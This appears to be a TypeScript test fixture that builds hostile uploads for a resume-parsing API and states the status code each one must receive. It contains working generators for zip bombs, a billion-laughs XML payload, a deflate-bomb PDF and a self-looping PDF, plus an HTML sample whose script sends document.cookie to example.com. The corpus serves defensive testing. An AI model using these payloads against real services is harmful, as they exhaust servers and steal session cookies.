import { randomBytes } from 'node:crypto';
import { deflateSync } from 'node:zlib';
import { writeZip } from '../benchmark/zip-writer.js';

/**
 * The hostile-file corpus (RELIABILITY UP-1..UP-4), built in code so it stays small in the repo and
 * exact in intent. Each entry names the status and code the API must answer with.
 */
export interface HostileFile {
  name: string;
  fileName: string;
  data: Uint8Array;
  status: number;
  code: string;
  /** A phrase the message must hold, so each refusal says its own reason. */
  says: string;
}

/** A PDF from object bodies (numbered from 1) with a correct xref table. */
export function buildPdf(objects: string[], trailerExtra = ''): Buffer {
  let body = '%PDF-1.4\n%\u00e2\u00e3\u00cf\u00d3\n';
  const offsets: number[] = [];
  objects.forEach((object, index) => {
    offsets.push(Buffer.byteLength(body, 'latin1'));
    body += `${index + 1} 0 obj\n${object}\nendobj\n`;
  });
  const xrefOffset = Buffer.byteLength(body, 'latin1');
  body += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const offset of offsets) body += `${String(offset).padStart(10, '0')} 00000 n \n`;
  body += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailerExtra}>>\nstartxref\n${xrefOffset}\n%%EOF\n`;
  return Buffer.from(body, 'latin1');
}

const stream = (content: string, extra = ''): string =>
  `<< /Length ${Buffer.byteLength(content, 'latin1')} ${extra}>>\nstream\n${content}\nendstream`;

/** A one-page PDF with real text, the base for the truncated case. */
export function textPdf(): Buffer {
  const content = 'BT /F1 12 Tf 72 720 Td (Jane Doe - Software Engineer - jane@example.com) Tj ET';
  return buildPdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>',
    stream(content),
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ]);
}

function imageOnlyPdf(): Buffer {
  const pixels = 'ff00ff00'.repeat(8);
  return buildPdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /XObject << /Im0 5 0 R >> >> /Contents 4 0 R >>',
    stream('q 400 0 0 500 100 150 cm /Im0 Do Q'),
    stream(
      `${pixels}>`,
      '/Type /XObject /Subtype /Image /Width 8 /Height 4 /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /ASCIIHexDecode ',
    ),
  ]);
}

/** Standard security handler, revision 2, with a user password we do not know. */
function encryptedPdf(): Buffer {
  const hex = (bytes: number): string => `<${randomBytes(bytes).toString('hex')}>`;
  const base = buildPdf(
    [
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>',
      stream('BT ET'),
      `<< /Filter /Standard /V 1 /R 2 /O ${hex(32)} /U ${hex(32)} /P -44 >>`,
    ],
    `/Encrypt 5 0 R /ID [${hex(16)} ${hex(16)}] `,
  );
  return base;
}

/** A content stream that inflates from a few kilobytes to 60 MB (a PDF "zip bomb"). */
function deflateBombPdf(): Buffer {
  const raw = Buffer.alloc(60 * 1024 * 1024, 0x20);
  Buffer.from('BT /F1 12 Tf 72 720 Td (Hi) Tj ET').copy(raw, 0);
  const compressed = deflateSync(raw, { level: 9 });
  return buildPdfWithBinaryStream(compressed);
}

/** Like buildPdf, with object 4 a FlateDecode stream of raw bytes. */
function buildPdfWithBinaryStream(compressed: Buffer): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.4\n', 'latin1')];
  const offsets: number[] = [];
  let offset = parts[0]?.length ?? 0;
  const objects: (string | null)[] = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>',
    null,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ];
  objects.forEach((object, index) => {
    offsets.push(offset);
    const part =
      object === null
        ? Buffer.concat([
            Buffer.from(
              `${index + 1} 0 obj\n<< /Length ${compressed.length} /Filter /FlateDecode >>\nstream\n`,
              'latin1',
            ),
            compressed,
            Buffer.from('\nendstream\nendobj\n', 'latin1'),
          ])
        : Buffer.from(`${index + 1} 0 obj\n${object}\nendobj\n`, 'latin1');
    parts.push(part);
    offset += part.length;
  });
  const xref = `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((value) => `${String(value).padStart(10, '0')} 00000 n \n`).join('')}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${offset}\n%%EOF\n`;
  parts.push(Buffer.from(xref, 'latin1'));
  return Buffer.concat(parts);
}

/** A page tree whose node lists itself as its own kid, and a form XObject that draws itself. */
function loopingPdf(): Buffer {
  return buildPdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /XObject << /Fm0 5 0 R >> >> /Contents 4 0 R >>',
    stream('/Fm0 Do'),
    stream(
      '/Fm0 Do',
      '/Type /XObject /Subtype /Form /BBox [0 0 612 792] /Resources << /XObject << /Fm0 5 0 R >> >> ',
    ),
  ]);
}

function docx(documentXml: string | Uint8Array, declaredSize?: number): Buffer {
  const data = typeof documentXml === 'string' ? Buffer.from(documentXml, 'utf8') : documentXml;
  return writeZip([
    {
      name: '[Content_Types].xml',
      data: Buffer.from(
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
      ),
    },
    { name: 'word/document.xml', data, ...(declaredSize === undefined ? {} : { declaredSize }) },
  ]);
}

function billionLaughs(): Buffer {
  const entities = ['<!ENTITY lol "lol">'];
  for (let level = 1; level <= 9; level += 1)
    entities.push(`<!ENTITY lol${level} "${`&lol${level === 1 ? '' : level - 1};`.repeat(10)}">`);
  return docx(
    `<?xml version="1.0"?><!DOCTYPE lolz [${entities.join('')}]><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>&lol9;</w:t></w:r></w:p></w:body></w:document>`,
  );
}

function zipBomb(lying: boolean): Buffer {
  const size = 60 * 1024 * 1024;
  const xml = Buffer.alloc(size, 0x20);
  Buffer.from('<w:document><w:body><w:p><w:r><w:t>').copy(xml, 0);
  return docx(xml, lying ? 4_000 : undefined);
}

/** The whole corpus. `maxBytes` is the server's size cap (the oversized file is built past it). */
export function hostileCorpus(maxBytes: number): HostileFile[] {
  const truncated = textPdf();
  const oversized = Buffer.alloc(Math.max(maxBytes + 1, 50 * 1024 * 1024), 0x41);
  Buffer.from('%PDF-1.7\n').copy(oversized, 0);
  return [
    {
      name: 'truncated PDF',
      says: 'incomplete',
      fileName: 'cv.pdf',
      data: truncated.subarray(0, Math.floor(truncated.length * 0.6)),
      status: 422,
      code: 'UNPROCESSABLE',
    },
    {
      name: 'encrypted PDF',
      says: 'password',
      fileName: 'cv.pdf',
      data: encryptedPdf(),
      status: 422,
      code: 'UNPROCESSABLE',
    },
    {
      name: 'zip bomb (honest directory)',
      says: 'expands',
      fileName: 'cv.docx',
      data: zipBomb(false),
      status: 422,
      code: 'UNPROCESSABLE',
    },
    {
      name: 'zip bomb (lying directory)',
      says: 'expands',
      fileName: 'cv.docx',
      data: zipBomb(true),
      status: 422,
      code: 'UNPROCESSABLE',
    },
    {
      name: 'billion laughs DOCX',
      says: 'entity',
      fileName: 'cv.docx',
      data: billionLaughs(),
      status: 422,
      code: 'UNPROCESSABLE',
    },
    {
      name: '50 MB file',
      says: 'larger than',
      fileName: 'cv.pdf',
      data: oversized,
      status: 413,
      code: 'PAYLOAD_TOO_LARGE',
    },
    {
      name: 'PNG named .pdf',
      says: 'image',
      fileName: 'cv.pdf',
      data: Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'),
      status: 415,
      code: 'UNSUPPORTED_MEDIA_TYPE',
    },
    {
      name: 'Windows executable named .docx',
      says: 'not a PDF',
      fileName: 'cv.docx',
      data: Buffer.concat([Buffer.from('MZ'), randomBytes(2048)]),
      status: 415,
      code: 'UNSUPPORTED_MEDIA_TYPE',
    },
    {
      name: 'ZIP that is not a DOCX',
      says: 'not a Word document',
      fileName: 'cv.docx',
      data: writeZip([{ name: 'a.txt', data: Buffer.from('hello') }]),
      status: 415,
      code: 'UNSUPPORTED_MEDIA_TYPE',
    },
    {
      name: 'HTML page with a script named .pdf',
      says: 'web page (HTML)',
      fileName: 'resume.pdf',
      data: Buffer.from(
        '<!doctype html><html><head><script>document.location="https://example.com/?c="+document.cookie</script></head><body><h1>Jane Doe</h1><p>Software engineer with ten years of experience.</p></body></html>',
      ),
      status: 415,
      code: 'UNSUPPORTED_MEDIA_TYPE',
    },
    {
      name: 'HTML page named .txt',
      says: 'web page (HTML)',
      fileName: 'resume.txt',
      data: Buffer.from(
        '<html>\n<body>\n<p>Jane Doe, software engineer, jane@example.com</p>\n<p>Experience: Acme 2019-2024</p>\n</body>\n</html>\n',
      ),
      status: 415,
      code: 'UNSUPPORTED_MEDIA_TYPE',
    },
    {
      name: 'text resume named .pdf',
      says: 'named .pdf but it is a plain text file',
      fileName: 'resume.pdf',
      data: Buffer.from(
        'Jane Doe\njane@example.com\n\nEXPERIENCE\nEngineer, Acme Ltd   2019 - 2024\n• Built the billing service.\n',
      ),
      status: 415,
      code: 'UNSUPPORTED_MEDIA_TYPE',
    },
    {
      name: 'PDF named .docx',
      says: 'named .docx but it is a PDF',
      fileName: 'resume.docx',
      data: textPdf(),
      status: 415,
      code: 'UNSUPPORTED_MEDIA_TYPE',
    },
    {
      name: 'image-only PDF',
      says: 'no text layer',
      fileName: 'scan.pdf',
      data: imageOnlyPdf(),
      status: 422,
      code: 'UNPROCESSABLE',
    },
    {
      name: 'empty file',
      says: 'empty',
      fileName: 'cv.pdf',
      data: new Uint8Array(0),
      status: 422,
      code: 'UNPROCESSABLE',
    },
    {
      name: 'empty DOCX',
      says: 'no text',
      fileName: 'cv.docx',
      data: docx('<w:document><w:body><w:p/></w:body></w:document>'),
      status: 422,
      code: 'UNPROCESSABLE',
    },
    {
      name: 'deflate bomb PDF',
      says: 'PDF',
      fileName: 'cv.pdf',
      data: deflateBombPdf(),
      status: 422,
      code: 'UNPROCESSABLE',
    },
    {
      name: 'looping PDF',
      says: 'PDF',
      fileName: 'cv.pdf',
      data: loopingPdf(),
      status: 422,
      code: 'UNPROCESSABLE',
    },
  ];
}
